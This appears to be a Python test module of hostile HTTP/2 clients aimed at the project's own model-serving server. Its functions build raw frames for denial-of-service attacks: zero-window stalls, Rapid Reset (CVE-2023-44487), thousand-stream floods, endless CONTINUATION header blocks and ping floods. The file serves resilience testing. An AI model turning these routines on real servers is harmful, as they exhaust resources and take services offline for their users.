"""Hostile clients of HTTP/2: windows, streams and resets without end."""

from __future__ import annotations

import contextlib
import random
import struct
import time

from tests.process.attack.target import HOLD, STREAMED, Attack, Target, connected, drain

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def http2_head(target: Target, method: str, path: str) -> bytes:
    """The header block of a request, without compression (RFC 7541, 6.2.2)."""
    fields = [(b":method", method.encode()), (b":scheme", b"http"), (b":path", path.encode())]
    fields += [(b":authority", b"127.0.0.1"), (b"content-type", b"application/json")]
    if target.key is not None:
        fields.append((b"authorization", b"Bearer " + target.key.encode()))
    return b"".join(b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)


def no_window(target: Target, choose: random.Random) -> None:
    """HTTP/2 streams whose answers may not be sent, as the client gives them no window."""
    settings = frame(4, 0, 0, struct.pack(">HI", 4, 0))
    with connected(target) as made:
        made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings)
        for number in range(choose.randrange(1, 100)):
            stream = 2 * number + 1
            if target.key is not None and choose.random() < 0.5:
                made.sendall(frame(1, 4, stream, http2_head(target, "POST", "/v1/chat/completions")))
                made.sendall(frame(0, 1, stream, STREAMED))
            else:
                path = choose.choice(("/health", "/ready", "/version", "/", "/ui", "/metrics", "/v1/models"))
                made.sendall(frame(1, 5, stream, http2_head(target, "GET", path)))
        time.sleep(HOLD)
        drain(made)


def rapid_reset(target: Target, choose: random.Random) -> None:
    """HTTP/2 streams that are ended as soon as they have begun (CVE-2023-44487)."""
    with connected(target) as made:
        made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        for number in range(choose.randrange(100, 2000)):
            stream = 2 * number + 1
            made.sendall(
                frame(1, 5, stream, http2_head(target, "GET", "/health")) + frame(3, 0, stream, struct.pack(">I", 8))
            )
        drain(made)


def _streams(target: Target, count: int, window: int, path: str) -> bytes:
    """As many requests as one connection may take, and more, with this window for each answer."""
    block = http2_head(target, "GET", path)
    heads = b"".join(frame(1, 5, 2 * number + 1, block) for number in range(count))
    return PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, window)) + heads


def many_streams(target: Target, choose: random.Random) -> None:
    """Connections with 1,000 streams each, whose unread answers have no window or a byte of it."""
    data = _streams(target, 1000, choose.choice((0, 0, 1)), choose.choice(("/health", "/workers", "/ui", "/version")))
    with contextlib.ExitStack() as stack:
        for _ in range(choose.randrange(10, 60)):
            made = stack.enter_context(connected(target))
            with contextlib.suppress(OSError):
                made.socket.settimeout(1.0)
                made.sendall(data)
        time.sleep(HOLD)


def metrics_streams(target: Target, choose: random.Random) -> None:
    """20 connections with 1,000 streams each that ask the admin listener for metrics."""
    data = _streams(target, 1000, choose.choice((0, 65_535)), "/metrics")
    with contextlib.ExitStack() as stack:
        for _ in range(20):
            made = stack.enter_context(connected(target, target.admin))
            with contextlib.suppress(OSError):
                made.socket.settimeout(1.0)
                made.sendall(data)
        time.sleep(HOLD)


def endless_heads(target: Target, choose: random.Random) -> None:
    """Header blocks that go on without end (CONTINUATION), or are much larger unpacked."""
    field = b"\x00\x01x" + b"\x7f\x80\x7e" + b"y" * 16_255
    with connected(target) as made:
        made.socket.settimeout(HOLD)
        made.sendall(PREFACE + frame(4, 0, 0) + frame(1, 0, 1, field[: 1 << 14]))
        for _ in range(choose.randrange(10, 400)):
            made.sendall(frame(9, 0, 1, b"y" * (1 << 14)))
        drain(made)


def pings(target: Target, choose: random.Random) -> None:
    """Settings and pings without end, none of whose answers is read."""
    kind = choose.choice((frame(6, 0, 0, bytes(8)), frame(4, 0, 0), frame(8, 0, 0, struct.pack(">I", 1))))
    with connected(target) as made:
        made.socket.settimeout(HOLD)
        made.sendall(PREFACE + frame(4, 0, 0))
        for _ in range(50):
            made.sendall(kind * 2000)


ATTACKS: tuple[Attack, ...] = (no_window, rapid_reset, many_streams, metrics_streams, endless_heads, pings)
